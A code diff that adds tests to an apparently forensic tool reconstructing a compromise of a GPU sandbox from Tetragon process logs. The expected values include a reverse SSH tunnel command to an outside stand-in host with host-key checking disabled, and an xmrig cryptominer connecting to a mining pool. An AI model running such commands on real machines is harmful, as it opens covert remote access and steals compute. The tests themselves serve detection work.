@@ -226,3 +226,31 @@ def test_unexplained_tree_groups_a_session_that_came_in(case, tmp_path):
     assert row["severity"] == "high"
     assert row["summary"].startswith("sandbox sbx-0317 on gpu-node-03: /usr/sbin/sshd -D -e -R (pid 48400) and 2 "
                                      "launches under it (bash, ps)")
+
+
+def test_gpu_record_from_inside_the_container_joins_through_its_pid_namespace(tmp_path):
+    # Tetragon knows each launch's pid inside the container; a GPU collector in the container saw that one
+    with Case(tmp_path / "ns.duckdb") as case:
+        case.ingest([str(DATA / "tetragon.jsonl")])
+        case.con.execute(
+            "CREATE TABLE IF NOT EXISTS gpu_processes (ts TIMESTAMPTZ, host VARCHAR, gpu_uuid VARCHAR, "
+            "gpu_index INTEGER, pid BIGINT, process_name VARCHAR, used_mib DOUBLE, sm_util DOUBLE, "
+            "record_kind VARCHAR, container VARCHAR, evidence_id INTEGER, locator VARCHAR)")
+        case.con.execute(
+            "INSERT INTO gpu_processes (ts, host, gpu_index, pid, process_name, container, evidence_id, locator) "
+            "VALUES (TIMESTAMPTZ '2026-02-17 02:14:30+00', 'gpu-node-03', 6, 57, 'xmrig', "
+            "'containerd://9f1c2e7a4b5d6e8f', 98, 'line:4')")
+        gpus = case.query("host/process_gpu")
+        assert gpus[["pid", "gpu_index", "basis"]].values.tolist() == [[48211, 6, "container pid"]]
+
+
+def test_process_events_are_on_the_timeline(case):
+    events = case.timeline(source="host")
+    starts = events[events["kind"] == "process_start"]
+    assert len(starts) == 13  # the launch without a SYSCALL record has a time but no pid: still listed
+    assert starts[starts["locator"] == "line:110"]["summary"].iloc[0] == "pid ? uname -a"
+    ssh = starts[starts["locator"] == "line:49"].iloc[0]
+    assert ssh["summary"] == ("pid 48150 (ppid 48140) ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no "
+                              "tunnel@203.0.113.50")
+    pool = events[(events["kind"] == "connect") & events["summary"].str.contains("198.51.100.77")].iloc[0]
+    assert pool["summary"] == "xmrig pid 48211 -> 198.51.100.77:3333 ok" and pool["severity"] == "low"
